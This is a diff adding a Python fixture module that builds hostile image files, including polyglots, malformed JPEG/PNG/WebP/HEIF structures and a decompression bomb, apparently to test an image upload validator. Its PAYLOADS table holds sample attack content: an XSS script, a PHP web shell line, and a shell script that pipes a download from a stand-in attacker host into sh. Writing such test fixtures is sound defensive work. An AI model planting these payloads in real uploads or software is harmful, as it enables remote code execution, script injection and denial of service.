@@ -1,0 +1,117 @@
+"""The honest images that the hostile ones are made from, and the parts they are spliced with."""
+
+from __future__ import annotations
+
+import io
+import random
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from functools import cache
+
+import pillow_heif
+from PIL import Image
+
+_MEGABYTE = 1 << 20
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """One file. `codes` are the rejections it may end in; empty means that it must be validated."""
+
+    name: str
+    about: str
+    make: Callable[[], bytes]
+    codes: tuple[str, ...]
+
+
+@cache
+def picture(width: int = 320, height: int = 240, mode: str = "RGB") -> Image.Image:
+    """Smooth blobs with a little grain, the same on every run."""
+    seeded = random.Random(width * 31 + height)
+    small = Image.frombytes("RGB", (16, 12), seeded.randbytes(576))
+    grain = Image.frombytes("RGB", (128, 96), seeded.randbytes(36_864))
+    image = Image.blend(
+        small.resize((width, height), Image.Resampling.BICUBIC), grain.resize((width, height)), 0.1
+    )
+    return image.convert(mode)
+
+
+def encoded(image: Image.Image, image_format: str, **options: object) -> bytes:
+    out = io.BytesIO()
+    if image_format == "HEIF":
+        pillow_heif.from_pillow(image).save(out, **options)
+    else:
+        image.save(out, image_format, **options)
+    return out.getvalue()
+
+
+@cache
+def honest(image_format: str, width: int = 320, height: int = 240) -> bytes:
+    return encoded(picture(width, height), image_format)
+
+
+def archive() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as made:
+        made.writestr("payload.txt", "appended to an image")
+    return out.getvalue()
+
+
+PAYLOADS: dict[str, bytes] = {
+    "zip": archive(),
+    "html": b"<html><script>alert(document.domain)</script></html>",
+    "php": b"<?php system($_GET['c']); ?>",
+    "script": b"#!/bin/sh\ncurl attacker.example | sh\n",
+    "pe": b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(48),
+    "elf": b"\x7fELF\x02\x01\x01" + bytes(57),
+    "pdf": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF",
+    "random": random.Random(5).randbytes(4096),
+}
+
+
+def segment(marker: int, body: bytes) -> bytes:
+    """A JPEG segment."""
+    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body
+
+
+def after_soi(jpeg: bytes, *segments: bytes) -> bytes:
+    return jpeg[:2] + b"".join(segments) + jpeg[2:]
+
+
+def chunk(kind: bytes, body: bytes, *, checksum: int | None = None) -> bytes:
+    """A PNG chunk."""
+    crc = zlib.crc32(kind + body) if checksum is None else checksum
+    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)
+
+
+def png(width: int, height: int, depth: int, colour: int, *chunks: bytes) -> bytes:
+    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
+    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks)
+
+
+def box(kind: bytes, body: bytes) -> bytes:
+    """A box of an ISO base media file."""
+    return struct.pack(">I", 8 + len(body)) + kind + body
+
+
+def riff(*chunks: bytes) -> bytes:
+    body = b"WEBP" + b"".join(chunks)
+    return b"RIFF" + struct.pack("<I", len(body)) + body
+
+
+def riff_chunk(kind: bytes, body: bytes) -> bytes:
+    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) & 1)
+
+
+def zeros_deflated(size: int) -> bytes:
+    """`size` zero bytes as a zlib stream: one megabyte is compressed, and repeated."""
+    whole, rest = divmod(size, _MEGABYTE)
+    packer = zlib.compressobj(9, wbits=-15)
+    block = packer.compress(bytes(_MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
+    last = zlib.compressobj(9, wbits=-15)
+    end = last.compress(bytes(rest)) + last.flush()
+    # The checksum of n zeros: its low half stays 1, its high half counts them.
+    return b"\x78\xda" + block * whole + end + struct.pack(">HH", size % 65_521, 1)
